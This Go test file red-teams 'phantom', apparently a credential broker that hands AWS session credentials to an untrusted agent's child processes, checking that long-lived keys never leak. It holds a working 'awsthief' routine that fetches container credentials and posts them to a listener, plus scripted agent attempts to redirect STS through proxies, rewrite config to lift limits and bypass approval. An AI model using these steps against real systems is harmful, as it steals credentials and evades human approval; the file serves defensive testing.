//go:build linux

package redteam

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/config"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/aws/aws-sdk-go-v2/service/sts"
)

func init() {
	// awsthief is what the agent runs under `phantom exec`: it fetches
	// whatever phantom's container-credentials endpoint serves with the
	// URL and token from its own environment (one curl, in Go), prints it,
	// posts the raw answer to the agent's listener (args[0]) and, with
	// args[1] == "sdk", uses aws-sdk-go-v2's default chain as an app would.
	children["awsthief"] = func(args []string) int {
		req, err := http.NewRequest(http.MethodGet, os.Getenv("AWS_CONTAINER_CREDENTIALS_FULL_URI"), nil)
		if err != nil {
			fmt.Println("request:", err)
			return 1
		}
		req.Header.Set("Authorization", os.Getenv("AWS_CONTAINER_AUTHORIZATION_TOKEN"))
		c := &http.Client{Timeout: 30 * time.Second}
		resp, err := c.Do(req)
		if err != nil {
			fmt.Println("fetch:", err)
			return 1
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		fmt.Printf("status=%d\n", resp.StatusCode)
		var got map[string]string
		json.Unmarshal(body, &got)
		for _, k := range []string{"AccessKeyId", "Expiration", "code", "message"} {
			fmt.Printf("%s=%s\n", k, got[k])
		}
		fmt.Printf("TokenLen=%d\n", len(got["Token"]))
		if len(args) > 0 {
			if r, err := c.Post(args[0], "application/json", bytes.NewReader(body)); err == nil {
				r.Body.Close()
			}
		}
		if len(args) > 1 && args[1] == "sdk" {
			ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
			defer cancel()
			cfg, err := config.LoadDefaultConfig(ctx)
			if err != nil {
				fmt.Println("sdk config:", err)
				return 1
			}
			who, err := sts.NewFromConfig(cfg).GetCallerIdentity(ctx, &sts.GetCallerIdentityInput{})
			if err != nil {
				fmt.Println("sdk sts:", err)
				return 1
			}
			fmt.Printf("Arn=%s\n", aws.ToString(who.Arn))
			_, err = s3.NewFromConfig(cfg, func(o *s3.Options) { o.UsePathStyle = true }).CreateBucket(ctx, &s3.CreateBucketInput{Bucket: aws.String("redteam-path6")})
			fmt.Printf("S3=%v\n", err == nil)
			if err != nil {
				fmt.Println("sdk s3:", err)
			}
		}
		return 0
	}
}

// kv parses the child's key=value lines.
func kv(out string) map[string]string {
	m := map[string]string{}
	for _, l := range strings.Split(out, "\n") {
		if k, v, ok := strings.Cut(l, "="); ok {
			m[k] = v
		}
	}
	return m
}

// TestPath6_AWSLongLivedKey: the project's vault holds an IAM user's
// long-lived key (AKIA…), which phantom serves to children through the
// SDKs' container-credentials endpoint. The agent, with no terminal:
//
//  1. runs a child under `phantom exec` that reads the endpoint URL and
//     token from its own environment and fetches the credentials (one
//     curl), prints them and posts them to its own listener;
//  2. sets AWS_ENDPOINT_URL(_STS) and HTTPS_PROXY for phantom, so that
//     phantom's request to STS, signed with the long-lived key, comes to
//     its listener (to replay it, or to learn the key ID);
//  3. edits .phantom.toml to `serve_long_lived = true`, or points
//     [aws] sts_endpoint at its listener, and tries `phantom trust`;
//  4. waits for STS to be unreachable, hoping phantom falls back to the key.
//
// Each time the long-lived key and its secret reach nothing the agent can
// read; what it gets are session credentials (ASIA…, with a token, expiring
// within the configured 30 minutes) that work with aws-sdk-go-v2 against
// the AWS fake; every fetch and refusal is in the audit log.
func TestPath6_AWSLongLivedKey(t *testing.T) {
	fake := StartAWSFake(t)
	a := NewAgent(t, []string{"OPENAI_API_KEY"},
		"AWS_REGION="+fake.Region, "AWS_EC2_METADATA_DISABLED=true")
	// The human stores their own key, and lets phantom ask STS at the local
	// fake for 30-minute sessions (an approved setting).
	a.MustPhantom(fake.KeyID+"\n", "add", "AWS_ACCESS_KEY_ID", "--stdin")
	a.MustPhantom(fake.Secret+"\n", "add", "AWS_SECRET_ACCESS_KEY", "--stdin")
	a.Secrets = append(a.Secrets, Secret{"AWS_ACCESS_KEY_ID", fake.KeyID}, Secret{"AWS_SECRET_ACCESS_KEY", fake.Secret})
	a.MustPhantom("", "sync", "--env-file", ".env")
	toml := a.ReadFile(".phantom.toml") + fmt.Sprintf("\n[aws]\nsession_duration = \"30m\"\nsts_endpoint = %q\n", fake.URL)
	a.WriteFile(".phantom.toml", toml)
	a.ApproveAWS()
	ln := Listen(t)
	stored := []string{fake.KeyID, fake.Secret}

	// 1. One fetch from the child, then the SDK with what it got.
	sdkEnv := []string{"env", "AWS_ENDPOINT_URL=" + fake.URL}
	start := time.Now()
	r := a.Phantom("", append(append([]string{"exec", "--"}, sdkEnv...), Child("awsthief", ln.URL(), "sdk")[1:]...)...)
	if r.Code != 0 {
		t.Fatalf("exec awsthief: exit %d\n%s", r.Code, r.Out())
	}
	got := kv(r.Stdout)
	if got["status"] != "200" || !strings.HasPrefix(got["AccessKeyId"], "ASIA") || got["TokenLen"] == "0" {
		t.Fatalf("the endpoint served %q (status %s, token length %s), want session credentials\n%s", got["AccessKeyId"], got["status"], got["TokenLen"], r.Out())
	}
	exp, err := time.Parse(time.RFC3339, got["Expiration"])
	if err != nil || exp.After(start.Add(30*time.Minute+time.Minute)) || exp.Before(start.Add(25*time.Minute)) {
		t.Errorf("Expiration %q (%v): want within the configured 30 minutes", got["Expiration"], err)
	}
	if !strings.HasSuffix(got["Arn"], ":user/bootstrap") || got["S3"] != "true" {
		t.Errorf("aws-sdk-go-v2 with the served credentials: Arn %q, S3 %q\n%s", got["Arn"], got["S3"], r.Out())
	}
	a.AssertClean(r)
	AssertNoValue(t, "the agent's listener", ln.Received(), stored...)
	if !bytes.Contains(ln.Received(), []byte(got["AccessKeyId"])) {
		t.Error("the listener did not get the exfiltrated answer: the test proves nothing")
	}
	a.AssertAudited("aws.credentials", "served session credentials "+got["AccessKeyId"])

	// 2. phantom's own environment points AWS endpoints and proxies at the
	// agent's listener: phantom's STS request does not follow.
	before := len(ln.Received())
	envAttack := append(a.Env[:len(a.Env):len(a.Env)], "AWS_ENDPOINT_URL="+ln.URL(), "AWS_ENDPOINT_URL_STS="+ln.URL(), "HTTPS_PROXY="+ln.URL(), "HTTP_PROXY="+ln.URL(), "ALL_PROXY="+ln.URL())
	saved := a.Env
	a.Env = envAttack
	r = a.Phantom("", append([]string{"exec", "--"}, Child("awsthief", ln.URL())...)...)
	a.Env = saved
	if g := kv(r.Stdout); r.Code != 0 || !strings.HasPrefix(g["AccessKeyId"], "ASIA") {
		t.Errorf("with AWS_ENDPOINT_URL_STS/HTTPS_PROXY set for phantom: exit %d, served %q\n%s", r.Code, g["AccessKeyId"], r.Out())
	}
	rec := ln.Received()[before:]
	if bytes.Contains(rec, []byte("GetSessionToken")) || bytes.Contains(rec, []byte("AWS4-HMAC-SHA256")) {
		t.Errorf("phantom's signed STS request reached the agent's listener:\n%.300s", rec)
	}
	AssertNoValue(t, "the agent's listener", ln.Received(), stored...)
	a.AssertClean(r)

	// 3. Configuration an agent can write does not stand in for approval.
	for name, edit := range map[string]string{
		"serve_long_lived":     toml + "serve_long_lived = true\n",
		"sts_endpoint":         strings.Replace(toml, fake.URL, ln.URL(), 1),
		"longer session":       strings.Replace(toml, `"30m"`, `"12h"`, 1),
		"endpoint and the key": strings.Replace(toml, fake.URL, ln.URL(), 1) + "serve_long_lived = true\n",
	} {
		a.WriteFile(".phantom.toml", edit)
		conns := ln.Connections()
		r := a.Phantom("", append([]string{"exec", "--"}, Child("awsthief", ln.URL())...)...)
		if r.Code != 5 || !strings.Contains(r.Stderr, "phantom trust") || strings.Contains(r.Stdout, "status=") {
			t.Errorf("%s: exec exit %d, want 5 (refused before the child ran)\n%s", name, r.Code, r.Out())
		}
		if ln.Connections() != conns {
			t.Errorf("%s: something connected to the agent's listener", name)
		}
		tr := a.Phantom("", "trust")
		if tr.Code != 5 || !strings.Contains(tr.Out(), "[aws]") {
			t.Errorf("%s: phantom trust without a terminal: exit %d, want 5 listing the [aws] settings\n%s", name, tr.Code, tr.Out())
		}
		a.AssertClean(r)
		a.AssertClean(tr)
	}
	a.AssertAudited("aws.credentials", "refused")
	a.WriteFile(".phantom.toml", toml)

	// 4. STS is down: the endpoint fails with a clear message, and the
	// long-lived key is still not served.
	fake.Stop()
	r = a.Phantom("", append([]string{"exec", "--"}, Child("awsthief", ln.URL())...)...)
	g := kv(r.Stdout)
	if g["status"] != "502" || g["code"] != "STSUnreachable" || !strings.Contains(g["message"], "never serves the long-lived key") || g["AccessKeyId"] != "" {
		t.Errorf("STS down: status %s code %s message %q key %q\n%s", g["status"], g["code"], g["message"], g["AccessKeyId"], r.Out())
	}
	if !strings.Contains(r.Stderr, "AWS credentials:") {
		t.Errorf("phantom said nothing on stderr about the failure:\n%s", r.Stderr)
	}
	a.AssertClean(r)
	AssertNoValue(t, "the agent's listener", ln.Received(), stored...)
	a.AssertAudited("aws.credentials", "failed: phantom could not reach")
}
